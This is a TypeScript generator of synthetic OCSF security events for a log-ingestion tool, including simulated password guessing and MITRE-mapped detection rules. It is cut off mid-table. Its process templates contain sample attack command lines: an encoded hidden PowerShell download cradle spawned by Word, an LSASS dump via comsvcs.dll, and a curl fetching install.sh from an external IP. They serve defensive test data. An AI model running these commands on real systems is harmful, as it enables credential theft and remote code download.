/**
 * `thawk seed`: generates realistic OCSF 1.1.0 events and sends them over HEC with
 * sourcetype `ocsf`. The generator is a pure function of its options, so a seed
 * reproduces the same events, and benchmarks can reuse it without the network.
 */

import { Command, InvalidArgumentError, Option } from 'commander';
import type { OcsfEvent } from '../../ingest/normalize/types.js';
import { defaultHecUrl } from './defaults.js';
import { HecClient } from './hec-client.js';

export type { OcsfEvent };

export interface GenerateOptions {
  /** Number of events to generate. */
  events: number;
  /** Random seed: the same seed and options give the same events. */
  seed: number;
  /** Epoch milliseconds of the last event. */
  endMillis: number;
  /** Events are spread evenly over this many milliseconds before `endMillis`; 0 stamps all with `endMillis`. */
  spreadMillis: number;
}

/** Share of each OCSF class in the generated stream, in percent. */
export const CLASS_MIX: Readonly<Record<number, number>> = {
  4001: 34, // Network Activity
  4003: 20, // DNS Activity
  4002: 13, // HTTP Activity
  1007: 12, // Process Activity
  3002: 11, // Authentication
  1001: 8.5, // File System Activity
  2004: 1.5, // Detection Finding
};

const OCSF_VERSION = '1.1.0';

/** A small, fast, seedable generator (mulberry32); `Math.random` cannot be seeded. */
class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** Returns a float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }

  chance(probability: number): boolean {
    return this.next() < probability;
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }

  /** Picks a key of `weights` with probability proportional to its value. */
  weighted<K extends string | number>(weights: readonly (readonly [K, number])[]): K {
    let total = 0;
    for (const [, weight] of weights) total += weight;
    let roll = this.next() * total;
    for (const [key, weight] of weights) {
      roll -= weight;
      if (roll < 0) return key;
    }
    return weights[weights.length - 1]![0];
  }

  /** Log-normal sample, for byte counts and durations with a long tail. */
  logNormal(median: number, sigma: number): number {
    const u = Math.max(this.next(), 1e-12);
    const v = this.next();
    const normal = Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v);
    return Math.round(median * Math.exp(sigma * normal));
  }

  hex(length: number): string {
    let text = '';
    for (let i = 0; i < length; i++) text += Math.floor(this.next() * 16).toString(16);
    return text;
  }
}

/**
 * Picks items with Zipf-like popularity: the item of rank k has weight 1/k^s, so a few
 * users, hosts and domains carry most events and a long tail appears rarely.
 */
class ZipfPool<T> {
  private readonly cumulative: number[] = [];

  constructor(
    readonly items: readonly T[],
    exponent = 1.07,
  ) {
    let total = 0;
    for (let rank = 1; rank <= items.length; rank++) {
      total += 1 / rank ** exponent;
      this.cumulative.push(total);
    }
  }

  pick(random: Random): T {
    const target = random.next() * this.cumulative[this.cumulative.length - 1]!;
    let low = 0;
    let high = this.cumulative.length - 1;
    while (low < high) {
      const middle = (low + high) >>> 1;
      if (this.cumulative[middle]! < target) low = middle + 1;
      else high = middle;
    }
    return this.items[low]!;
  }
}

interface Host {
  hostname: string;
  ip: string;
  os: 'windows' | 'linux';
  server: boolean;
}

interface User {
  name: string;
  uid: string;
  domain: string;
}

// biome-ignore format: a table of short values reads best packed
const FIRST_NAMES = [
  'james', 'mary', 'robert', 'patricia', 'john', 'jennifer', 'michael', 'linda', 'david',
  'elizabeth', 'william', 'barbara', 'richard', 'susan', 'joseph', 'jessica', 'thomas', 'sarah',
  'carlos', 'karen', 'daniel', 'lisa', 'matthew', 'nancy', 'anthony', 'betty', 'mark', 'sandra',
  'priya', 'wei', 'fatima', 'olga', 'kenji', 'amara', 'lucas', 'sofia', 'noah', 'emma',
];
// biome-ignore format: a table of short values reads best packed
const LAST_NAMES = [
  'smith', 'johnson', 'williams', 'brown', 'jones', 'garcia', 'miller', 'davis', 'rodriguez',
  'martinez', 'hernandez', 'lopez', 'gonzalez', 'wilson', 'anderson', 'thomas', 'taylor', 'moore',
  'jackson', 'martin', 'lee', 'perez', 'thompson', 'white', 'harris', 'sanchez', 'clark', 'nguyen',
  'patel', 'kim', 'chen', 'novak', 'okafor', 'tanaka', 'schmidt', 'rossi', 'silva', 'kowalski',
];
const SERVICE_ACCOUNTS = [
  'administrator',
  'svc_backup',
  'svc_sql',
  'svc_web',
  'svc_deploy',
  'root',
];
const SERVER_ROLES = ['dc', 'file', 'web', 'db', 'mail', 'app', 'build', 'vpn', 'proxy', 'log'];
const DOMAIN = 'CORP';

// biome-ignore format: a table of short values reads best packed
const PUBLIC_DOMAINS = [
  'www.google.com', 'login.microsoftonline.com', 'outlook.office365.com', 'github.com',
  'api.github.com', 'slack.com', 'edgeapi.slack.com', 'zoom.us', 'corp.okta.com',
  'update.googleapis.com', 'ctldl.windowsupdate.com', 'settings-win.data.microsoft.com',
  'www.amazon.com', 's3.amazonaws.com', 'registry.npmjs.org', 'pypi.org', 'files.pythonhosted.org',
  'deb.debian.org', 'archive.ubuntu.com', 'www.youtube.com', 'i.ytimg.com', 'www.linkedin.com',
  'cdn.jsdelivr.net', 'fonts.gstatic.com', 'ocsp.digicert.com', 'time.windows.com',
  'teams.microsoft.com', 'www.salesforce.com', 'docs.google.com', 'drive.google.com',
  'www.wikipedia.org', 'news.ycombinator.com', 'www.dropbox.com', 'api.stripe.com',
  'hooks.slack.com', 'sentry.io', 'app.datadoghq.com', 'www.cloudflare.com', 'dns.google',
];
// biome-ignore format: a table of short values reads best packed
const INTERNAL_DOMAINS = [
  'intranet.corp.example', 'wiki.corp.example', 'jira.corp.example', 'git.corp.example',
  'mail.corp.example', 'vpn.corp.example', 'hr.corp.example', 'grafana.corp.example',
];
// biome-ignore format: a table of short values reads best packed
const PUBLIC_FIRST_OCTETS = [
  13, 18, 20, 23, 31, 34, 35, 40, 45, 52, 54, 62, 64, 66, 77, 81, 91, 95, 104, 107, 142, 151, 157,
  162, 176, 185, 188, 193, 195, 199, 203, 212, 217,
];

interface EntityPools {
  users: ZipfPool<User>;
  workstations: ZipfPool<Host>;
  servers: ZipfPool<Host>;
  hosts: ZipfPool<Host>;
  externalIps: ZipfPool<string>;
  /** Sources of password guessing: a few addresses with mostly failed logons. */
  attackerIps: string[];
  domains: ZipfPool<string>;
  dnsServer: Host;
}

/** Builds the users, hosts, addresses and domains: a few hundred users and hosts, a few thousand IPs. */
function buildPools(random: Random): EntityPools {
  const userNames = new Set<string>();
  while (userNames.size < 320) {
    userNames.add(`${random.pick(FIRST_NAMES)}.${random.pick(LAST_NAMES)}`);
  }
  const users = [...userNames, ...SERVICE_ACCOUNTS].map((name, i) => ({
    name,
    uid: `S-1-5-21-3623811015-3361044348-30300820-${1100 + i}`,
    domain: DOMAIN,
  }));
  // Service accounts run constantly, so they go near the top of the popularity order.
  const ordered = [users[users.length - 3]!, users[users.length - 1]!, ...users];

  const workstations: Host[] = [];
  for (let i = 1; i <= 180; i++) {
    workstations.push({
      hostname: `ws-${String(i).padStart(4, '0')}`,
      ip: `10.20.${Math.floor(i / 250) + 1}.${(i % 250) + 2}`,
      os: random.chance(0.85) ? 'windows' : 'linux',
      server: false,
    });
  }
  const servers: Host[] = [];
  for (const role of SERVER_ROLES) {
    const count = role === 'web' || role === 'app' ? 4 : 2;
    for (let i = 1; i <= count; i++) {
      servers.push({
        hostname: `${role}${String(i).padStart(2, '0')}`,
        ip: `10.10.0.${servers.length + 10}`,
        os: role === 'dc' || role === 'file' || role === 'mail' ? 'windows' : 'linux',
        server: true,
      });
    }
  }

  const externalIps = new Set<string>();
  while (externalIps.size < 3000) {
    externalIps.add(
      `${random.pick(PUBLIC_FIRST_OCTETS)}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`,
    );
  }
  const attackerIps = [...externalIps].slice(-12);

  const domains = [...PUBLIC_DOMAINS, ...INTERNAL_DOMAINS];
  for (let i = 0; i < 360; i++) domains.push(`${random.hex(6)}.cdn.example.net`);

  return {
    users: new ZipfPool(ordered),
    workstations: new ZipfPool(workstations),
    servers: new ZipfPool(servers, 0.8),
    hosts: new ZipfPool([...servers, ...workstations]),
    externalIps: new ZipfPool([...externalIps], 1.0),
    attackerIps,
    domains: new ZipfPool(domains),
    dnsServer: servers.find((host) => host.hostname === 'dc01')!,
  };
}

/** Fields every event carries; the class builders add the rest. */
function base(
  classUid: number,
  activityId: number,
  time: number,
  severityId: number,
  product: { name: string; vendor_name: string },
  random: Random,
): OcsfEvent {
  return {
    class_uid: classUid,
    category_uid: Math.floor(classUid / 1000),
    activity_id: activityId,
    type_uid: classUid * 100 + activityId,
    severity_id: severityId,
    time,
    metadata: { version: OCSF_VERSION, product, uid: random.hex(32) },
  };
}

function device(host: Host): Record<string, unknown> {
  return {
    hostname: host.hostname,
    ip: host.ip,
    type_id: host.server ? 1 : 2,
    os:
      host.os === 'windows'
        ? { name: host.server ? 'Windows Server 2022' : 'Windows 11', type_id: 100 }
        : { name: 'Ubuntu 22.04', type_id: 200 },
  };
}

const AUTH_FAILURES = [
  'Unknown user name or bad password.',
  'Unknown user name or bad password.',
  'Unknown user name or bad password.',
  'Account locked out.',
  'The user password has expired.',
  'MFA challenge denied.',
];

function authentication(pools: EntityPools, random: Random, time: number): OcsfEvent {
  // Logon 1, Logoff 2, Authentication Ticket 3, Service Ticket Request 4.
  const activityId = random.weighted([
    [1, 68],
    [2, 16],
    [3, 10],
    [4, 6],
  ] as const);
  const fromAttacker = activityId === 1 && random.chance(0.06);
  // Password guessing tries the built-in administrator account half the time.
  const user =
    fromAttacker && random.chance(0.5)
      ? pools.users.items.find((candidate) => candidate.name === 'administrator')!
      : pools.users.pick(random);
  // Failure rates per action: password guessing fails nearly always, a normal logon
  // about one time in fifteen, Kerberos ticket requests rarely, logoffs never.
  const failureRate = fromAttacker
    ? 0.93
    : ({ 1: 0.07, 2: 0, 3: 0.03, 4: 0.01 } as const)[activityId];
  const failed = random.chance(failureRate);
  const target = fromAttacker ? pools.servers.pick(random) : pools.hosts.pick(random);
  const source = fromAttacker ? random.pick(pools.attackerIps) : pools.workstations.pick(random).ip;

  const windows = target.os === 'windows';
  const product = windows
    ? { name: 'Windows Security Auditing', vendor_name: 'Microsoft' }
    : { name: 'OpenSSH', vendor_name: 'OpenBSD' };
  const event = base(3002, activityId, time, failed ? 3 : 1, product, random);
  const kerberos = windows && (activityId >= 3 || random.chance(0.7));
  Object.assign(event, {
    status_id: failed ? 2 : 1,
    status: failed ? 'Failure' : 'Success',
    user: { name: user.name, uid: user.uid, domain: windows ? user.domain : undefined },
    src_endpoint: { ip: source },
    dst_endpoint: { hostname: target.hostname, ip: target.ip },
    device: device(target),
    is_remote: source !== target.ip,
  });
  let serviceName = 'sshd';
  if (windows) serviceName = activityId >= 3 ? 'krbtgt' : 'winlogon';
  event.service = { name: serviceName };

  if (windows) {
    event.auth_protocol_id = kerberos ? 2 : 1;
    event.auth_protocol = kerberos ? 'Kerberos' : 'NTLM';
    const logonType = fromAttacker
      ? 3
      : random.weighted([
          [3, 60],
          [2, 25],
          [10, 15],
        ] as const);
    event.logon_type_id = logonType;
    event.logon_type = { 2: 'Interactive', 3: 'Network', 10: 'Remote Interactive' }[logonType];
    event.metadata.event_code = { 1: '4624', 2: '4634', 3: '4768', 4: '4769' }[activityId];
    if (failed && activityId === 1) event.metadata.event_code = '4625';
  }
  if (failed) event.status_detail = random.pick(AUTH_FAILURES);
  const verb = { 1: 'logon', 2: 'logoff', 3: 'ticket request', 4: 'service ticket request' }[
    activityId
  ];
  event.message = `${failed ? 'failed' : 'successful'} ${verb} for ${user.name} on ${target.hostname} from ${source}`;
  return event;
}

// biome-ignore format: a table of short values reads best packed
const SERVICE_PORTS: readonly (readonly [number, number])[] = [
  [443, 50], [80, 10], [53, 9], [445, 5], [389, 4], [88, 3], [22, 3], [3389, 2], [123, 2],
  [8080, 2], [5432, 1.5], [3306, 1], [25, 1], [993, 1], [636, 1], [8443, 1], [5985, 0.5],
];
const UDP_PORTS = new Set([53, 123]);

function networkActivity(pools: EntityPools, random: Random, time: number): OcsfEvent {
  // Open 1, Close 2, Reset 3, Fail 4, Refuse 5, Traffic 6.
  const activityId = random.weighted([
    [6, 55],
    [1, 18],
    [2, 15],
    [5, 7],
    [3, 4],
    [4, 1],
  ] as const);
  const port = random.weighted(SERVICE_PORTS);
  const source = pools.workstations.pick(random);
  const outbound = port === 443 || port === 80 ? random.chance(0.85) : random.chance(0.15);
  const destination = outbound
    ? { ip: pools.externalIps.pick(random), port }
    : { ip: pools.servers.pick(random).ip, port };
  const refused = activityId === 5;
  const failed = refused || activityId === 4;
  const udp = UDP_PORTS.has(port);
  const event = base(
    4001,
    activityId,
    time,
    refused ? 2 : 1,
    { name: 'PAN-OS', vendor_name: 'Palo Alto Networks' },
    random,
  );
  const bytesOut = activityId === 6 || activityId === 2 ? random.logNormal(1800, 1.6) : 0;
  Object.assign(event, {
    status_id: failed ? 2 : 1,
    status: failed ? 'Failure' : 'Success',
    action_id: refused ? 2 : 1,
    action: refused ? 'Denied' : 'Allowed',
    disposition_id: refused ? 2 : 1,
    disposition: refused ? 'Blocked' : 'Allowed',
    src_endpoint: { ip: source.ip, port: random.int(49152, 65535), hostname: source.hostname },
    dst_endpoint: destination,
    device: device(source),
    connection_info: {
      protocol_name: udp ? 'udp' : 'tcp',
      protocol_num: udp ? 17 : 6,
      direction: outbound ? 'Outbound' : 'Lateral',
      direction_id: outbound ? 2 : 3,
    },
  });
  if (bytesOut > 0) {
    const bytesIn = random.logNormal(outbound ? 24_000 : 6_000, 2);
    event.traffic = {
      bytes_out: bytesOut,
      bytes_in: bytesIn,
      packets_out: Math.max(1, Math.round(bytesOut / 900)),
      packets_in: Math.max(1, Math.round(bytesIn / 1200)),
    };
    event.duration = random.logNormal(1200, 1.8);
  }
  return event;
}

interface ProcessTemplate {
  parent: { name: string; path: string; cmd: string };
  name: string;
  path: string;
  /** Command line; `{user}` and `{host}` are filled in. */
  cmd: string;
  weight: number;
}

const WINDOWS_PROCESSES: readonly ProcessTemplate[] = [
  {
    parent: {
      name: 'explorer.exe',
      path: 'C:\\Windows\\explorer.exe',
      cmd: 'C:\\Windows\\Explorer.EXE',
    },
    name: 'chrome.exe',
    path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
    weight: 30,
  },
  {
    parent: {
      name: 'services.exe',
      path: 'C:\\Windows\\System32\\services.exe',
      cmd: 'C:\\Windows\\system32\\services.exe',
    },
    name: 'svchost.exe',
    path: 'C:\\Windows\\System32\\svchost.exe',
    cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    weight: 25,
  },
  {
    parent: {
      name: 'explorer.exe',
      path: 'C:\\Windows\\explorer.exe',
      cmd: 'C:\\Windows\\Explorer.EXE',
    },
    name: 'OUTLOOK.EXE',
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
    weight: 10,
  },
  {
    parent: {
      name: 'cmd.exe',
      path: 'C:\\Windows\\System32\\cmd.exe',
      cmd: 'C:\\Windows\\system32\\cmd.exe',
    },
    name: 'ipconfig.exe',
    path: 'C:\\Windows\\System32\\ipconfig.exe',
    cmd: 'ipconfig /all',
    weight: 5,
  },
  {
    parent: {
      name: 'explorer.exe',
      path: 'C:\\Windows\\explorer.exe',
      cmd: 'C:\\Windows\\Explorer.EXE',
    },
    name: 'powershell.exe',
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmd: 'powershell.exe -NoProfile -Command "Get-ChildItem C:\\Users\\{user}\\Documents"',
    weight: 6,
  },
  {
    parent: {
      name: 'svchost.exe',
      path: 'C:\\Windows\\System32\\svchost.exe',
      cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    },
    name: 'MpCmdRun.exe',
    path: 'C:\\Program Files\\Windows Defender\\MpCmdRun.exe',
    cmd: '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate',
    weight: 4,
  },
  {
    parent: {
      name: 'cmd.exe',
      path: 'C:\\Windows\\System32\\cmd.exe',
      cmd: 'C:\\Windows\\system32\\cmd.exe',
    },
    name: 'net.exe',
    path: 'C:\\Windows\\System32\\net.exe',
    cmd: 'net group "Domain Admins" /domain',
    weight: 0.6,
  },
  {
    parent: {
      name: 'WINWORD.EXE',
      path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\invoice_0423.docm"',
    },
    name: 'powershell.exe',
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmd: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    weight: 0.3,
  },
  {
    parent: {
      name: 'cmd.exe',
      path: 'C:\\Windows\\System32\\cmd.exe',
      cmd: 'C:\\Windows\\system32\\cmd.exe',
    },
    name: 'rundll32.exe',
    path: 'C:\\Windows\\System32\\rundll32.exe',
    cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\lsass.dmp full',
    weight: 0.1,
  },
];

const LINUX_PROCESSES: readonly ProcessTemplate[] = [
  {
    parent: { name: 'sshd', path: '/usr/sbin/sshd', cmd: 'sshd: {user} [priv]' },
    name: 'bash',
    path: '/usr/bin/bash',
    cmd: '-bash',
    weight: 20,
  },
  {
    parent: { name: 'cron', path: '/usr/sbin/cron', cmd: '/usr/sbin/cron -f' },
    name: 'python3',
    path: '/usr/bin/python3.10',
    cmd: '/usr/bin/python3 /opt/scripts/backup.py --target /srv/backup',
    weight: 15,
  },
  {
    parent: { name: 'bash', path: '/usr/bin/bash', cmd: '-bash' },
    name: 'sudo',
    path: '/usr/bin/sudo',
    cmd: 'sudo apt-get update',
    weight: 8,
  },
  {
    parent: { name: 'systemd', path: '/usr/lib/systemd/systemd', cmd: '/sbin/init' },
    name: 'nginx',
    path: '/usr/sbin/nginx',
    cmd: 'nginx: worker process',
    weight: 10,
  },
  {
    parent: { name: 'bash', path: '/usr/bin/bash', cmd: '-bash' },
    name: 'git',
    path: '/usr/bin/git',
    cmd: 'git pull --rebase origin main',
    weight: 8,
  },
  {
    parent: { name: 'bash', path: '/usr/bin/bash', cmd: '-bash' },
    name: 'curl',
    path: '/usr/bin/curl',
    cmd: 'curl -fsSL http://{host}/install.sh -o /tmp/install.sh',
    weight: 0.5,
  },
];

function pid(random: Random, windows: boolean): number {
  return windows ? random.int(100, 16_000) * 4 : random.int(300, 4_194_303);
}

function processActivity(pools: EntityPools, random: Random, time: number): OcsfEvent {
  const host = pools.hosts.pick(random);
  const windows = host.os === 'windows';
  const templates = windows ? WINDOWS_PROCESSES : LINUX_PROCESSES;
  const template = random.weighted(templates.map((item, i) => [i, item.weight] as const));
  const { parent, name, path, cmd } = templates[template]!;
  const user = pools.users.pick(random);
  const fill = (text: string) =>
    text.replaceAll('{user}', user.name).replaceAll('{host}', pools.externalIps.pick(random));
  // Launch 1, Terminate 2.
  const activityId = random.chance(0.82) ? 1 : 2;
  const suspicious = /-enc |MiniDump|install\.sh|Domain Admins/.test(cmd);
  const event = base(
    1007,
    activityId,
    time,
    suspicious ? 3 : 1,
    windows
      ? { name: 'Sysmon', vendor_name: 'Microsoft' }
      : { name: 'auditd', vendor_name: 'Linux' },
    random,
  );
  const parentProcess = {
    pid: pid(random, windows),
    name: parent.name,
    cmd_line: fill(parent.cmd),
    file: { path: parent.path, name: parent.name },
  };
  const processUser = { name: user.name, domain: windows ? user.domain : undefined };
  Object.assign(event, {
    status_id: 1,
    status: 'Success',
    process: {
      pid: pid(random, windows),
      name,
      cmd_line: fill(cmd),
      file: { path, name: path.split(/[\\/]/).pop() },
      parent_process: parentProcess,
      user: processUser,
    },
    actor: { user: processUser, process: parentProcess },
    device: device(host),
  });
  if (activityId === 2) event.exit_code = random.chance(0.95) ? 0 : random.pick([1, 2, 127, 137]);
  if (windows) event.metadata.event_code = activityId === 1 ? '1' : '5';
  return event;
}

function filePath(random: Random, host: Host, user: User): string {
  if (host.os === 'windows') {
    const home = `C:\\Users\\${user.name}`;
    return random.pick([
      `${home}\\Documents\\report-Q${random.int(1, 4)}.docx`,
      `${home}\\Documents\\budget-${random.int(2023, 2026)}.xlsx`,
      `${home}\\Downloads\\setup-${random.hex(4)}.exe`,
      `${home}\\AppData\\Local\\Temp\\~DF${random.hex(4).toUpperCase()}.tmp`,
      `C:\\Windows\\Temp\\${random.hex(8)}.tmp`,
      `C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\${random.hex(6)}.log`,
      `\\\\file01\\share\\finance\\Q${random.int(1, 4)}-forecast.xlsx`,
    ]);
  }
  return random.pick([
    `/home/${user.name}/.bash_history`,
    `/home/${user.name}/projects/app/src/main.py`,
    `/var/log/nginx/access.log`,
    `/etc/passwd`,
    `/etc/ssh/sshd_config`,
    `/tmp/tmp.${random.hex(10)}`,
    `/srv/backup/db-${random.int(1, 28)}.sql.gz`,
  ]);
}

function fileActivity(pools: EntityPools, random: Random, time: number): OcsfEvent {
  // Create 1, Read 2, Update 3, Delete 4, Rename 5.
  const activityId = random.weighted([
    [1, 30],
    [2, 25],
    [3, 25],
    [4, 12],
    [5, 8],
  ] as const);
  const host = pools.hosts.pick(random);
  const user = pools.users.pick(random);
  const path = filePath(random, host, user);
  const windows = host.os === 'windows';
  const denied = random.chance(path.startsWith('/etc/') || path.startsWith('\\\\') ? 0.1 : 0.01);
  const event = base(
    1001,
    activityId,
    time,
    1,
    windows
      ? { name: 'Sysmon', vendor_name: 'Microsoft' }
      : { name: 'auditd', vendor_name: 'Linux' },
    random,
  );
  const name = path.split(/[\\/]/).pop();
  Object.assign(event, {
    status_id: denied ? 2 : 1,
    status: denied ? 'Failure' : 'Success',
    file: { path, name, type_id: 1, type: 'Regular File', size: random.logNormal(48_000, 2) },
    actor: {
      user: { name: user.name },
      process: windows
        ? { name: 'explorer.exe', pid: pid(random, true) }
        : { name: 'bash', pid: pid(random, false) },
    },
    device: device(host),
  });
  if (denied) event.status_detail = 'Access is denied.';
  return event;
}

// biome-ignore format: a table of short values reads best packed
const DNS_TYPES: readonly (readonly [string, number])[] = [
  ['A', 55], ['AAAA', 22], ['HTTPS', 8], ['CNAME', 4], ['PTR', 4], ['TXT', 3], ['SRV', 2], ['MX', 2],
];
const RCODES: Readonly<Record<number, string>> = {
  0: 'NoError',
  2: 'ServError',
  3: 'NXDomain',
  5: 'Refused',
};

function dnsActivity(pools: EntityPools, random: Random, time: number): OcsfEvent {
  const source = pools.workstations.pick(random);
  // One query in twenty is to a random-looking name, as malware or typos produce; most fail.
  const generatedName = random.chance(0.05);
  const hostname = generatedName
    ? `${random.hex(random.int(10, 18))}.${random.pick(['com', 'net', 'info', 'xyz'])}`
    : pools.domains.pick(random);
  const type = random.weighted(DNS_TYPES);
  const rcodeId = generatedName
    ? random.weighted([
        [3, 85],
        [0, 15],
      ] as const)
    : random.weighted([
        [0, 91],
        [3, 6],
        [2, 2],
        [5, 1],
      ] as const);
  // Query 1, Response 2.
  const activityId = random.chance(0.3) ? 1 : 2;
  const event = base(4003, activityId, time, 1, { name: 'Zeek', vendor_name: 'Zeek' }, random);
  Object.assign(event, {
    query: { hostname, type, class: 'IN', uid: random.int(0, 65535) },
    src_endpoint: { ip: source.ip, port: random.int(49152, 65535), hostname: source.hostname },
    dst_endpoint: { ip: pools.dnsServer.ip, port: 53 },
    device: device(source),
    connection_info: {
      protocol_name: 'udp',
      protocol_num: 17,
      direction: 'Lateral',
      direction_id: 3,
    },
  });
  if (activityId === 2) {
    Object.assign(event, {
      rcode_id: rcodeId,
      rcode: RCODES[rcodeId],
      status_id: rcodeId === 0 ? 1 : 2,
      status: rcodeId === 0 ? 'Success' : 'Failure',
    });
    if (rcodeId === 0) event.answers = dnsAnswers(pools, random, type);
  }
  return event;
}

function dnsAnswers(pools: EntityPools, random: Random, type: string): Record<string, unknown>[] {
  const ttl = random.pick([30, 60, 300, 3600, 86400]);
  switch (type) {
    case 'A':
      return [{ type, class: 'IN', ttl, rdata: pools.externalIps.pick(random) }];
    case 'AAAA':
      return [{ type, class: 'IN', ttl, rdata: `2606:4700::${random.hex(4)}:${random.hex(4)}` }];
    case 'CNAME':
      return [{ type, class: 'IN', ttl, rdata: `${random.hex(8)}.edgekey.net` }];
    case 'MX':
      return [{ type, class: 'IN', ttl, rdata: `10 mx${random.int(1, 3)}.mail.example.net` }];
    default:
      return [{ type, class: 'IN', ttl, rdata: random.hex(16) }];
  }
}

// biome-ignore format: a table of short values reads best packed
const HTTP_METHODS: readonly (readonly [number, number])[] = [
  [3, 74], [6, 18], [7, 2], [4, 2], [2, 1], [5, 1.5], [1, 1.5],
];
// biome-ignore format: a table of short values reads best packed
const METHOD_NAMES: Readonly<Record<number, string>> = {
  1: 'CONNECT', 2: 'DELETE', 3: 'GET', 4: 'HEAD', 5: 'OPTIONS', 6: 'POST', 7: 'PUT',
};
// biome-ignore format: a table of short values reads best packed
const HTTP_STATUSES: readonly (readonly [number, number])[] = [
  [200, 70], [304, 8], [302, 4], [301, 2], [204, 3], [404, 6], [403, 2], [401, 2], [500, 1.2],
  [502, 0.6], [503, 0.6], [400, 0.6],
];
// biome-ignore format: a table of short values reads best packed
const REASON_PHRASES: Readonly<Record<number, string>> = {
  200: 'OK', 204: 'No Content', 301: 'Moved Permanently', 302: 'Found', 304: 'Not Modified',
  400: 'Bad Request', 401: 'Unauthorized', 403: 'Forbidden', 404: 'Not Found',
  500: 'Internal Server Error', 502: 'Bad Gateway', 503: 'Service Unavailable',
};
// biome-ignore format: a table of short values reads best packed
const URL_PATHS = [
  '/', '/index.html', '/api/v1/users', '/api/v2/orders', '/login', '/static/app.js',
  '/static/styles.css', '/favicon.ico', '/search?q=quarterly+report', '/wp-login.php',
  '/graphql', '/health', '/images/logo.png', '/download/setup.exe',
];
// biome-ignore format: a table of short values reads best packed
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'curl/7.88.1',
  'python-requests/2.31.0',
  'Microsoft-CryptoAPI/10.0',
];

function httpActivity(pools: EntityPools, random: Random, time: number): OcsfEvent {
  const activityId = random.weighted(HTTP_METHODS);
  const method = METHOD_NAMES[activityId]!;
  const code = random.weighted(HTTP_STATUSES);
  const source = pools.workstations.pick(random);
  const hostname = pools.domains.pick(random);
  const internal = hostname.endsWith('.corp.example');
  const path = random.pick(URL_PATHS);
  const scheme = random.chance(0.92) ? 'https' : 'http';
  const destinationIp = internal ? pools.servers.pick(random).ip : pools.externalIps.pick(random);
  const event = base(
    4002,
    activityId,
    time,
    code >= 500 ? 2 : 1,
    { name: 'Squid', vendor_name: 'Squid Cache' },
    random,
  );
  Object.assign(event, {
    status_id: code < 400 ? 1 : 2,
    status: code < 400 ? 'Success' : 'Failure',
    http_request: {
      http_method: method,
      version: 'HTTP/1.1',
      user_agent: random.pick(USER_AGENTS),
      url: {
        scheme,
        hostname,
        path: path.split('?')[0],
        query_string: path.includes('?') ? path.split('?')[1] : undefined,
        port: scheme === 'https' ? 443 : 80,
        url_string: `${scheme}://${hostname}${path}`,
      },
    },
    http_response: {
      code,
      status: REASON_PHRASES[code],
      length: code === 204 || code === 304 ? 0 : random.logNormal(8_000, 1.8),
    },
    src_endpoint: { ip: source.ip, port: random.int(49152, 65535), hostname: source.hostname },
    dst_endpoint: { ip: destinationIp, port: scheme === 'https' ? 443 : 80, hostname },
    device: device(source),
  });
  return event;
}

interface DetectionRule {
  title: string;
  tactic: [uid: string, name: string];
  technique: [uid: string, name: string];
  severityId: number;
  weight: number;
}

/** Detection rules with their MITRE ATT&CK (v14) tactic and technique. */
const DETECTION_RULES: readonly DetectionRule[] = [
  {
    title: 'Password guessing against a domain account',
    tactic: ['TA0006', 'Credential Access'],
    technique: ['T1110.001', 'Password Guessing'],
    severityId: 3,
    weight: 20,
  },
  {
    title: 'Encoded PowerShell command line',
    tactic: ['TA0002', 'Execution'],
    technique: ['T1059.001', 'PowerShell'],
    severityId: 4,
    weight: 12,
  },
  {
    title: 'Office application spawned a shell',
    tactic: ['TA0001', 'Initial Access'],
    technique: ['T1566.001', 'Spearphishing Attachment'],
    severityId: 4,
    weight: 6,
  },
  {
    title: 'LSASS memory dump with comsvcs.dll',
    tactic: ['TA0006', 'Credential Access'],
    technique: ['T1003.001', 'LSASS Memory'],
    severityId: 5,
    weight: 2,
  },
  {
    title: 'Remote Desktop logon from a new source',
    tactic: ['TA0008', 'Lateral Movement'],
    technique: ['T1021.001', 'Remote Desktop Protocol'],
    severityId: 2,
    weight: 10,
  },
  {
    title: 'Scheduled task created from a user folder',
    tactic: ['TA0003', 'Persistence'],
    technique: ['T1053.005', 'Scheduled Task'],
    severityId: 3,
    weight: 8,
  },
  {
    title: 'DNS queries to algorithmically generated domains',
    tactic: ['TA0011', 'Command and Control'],
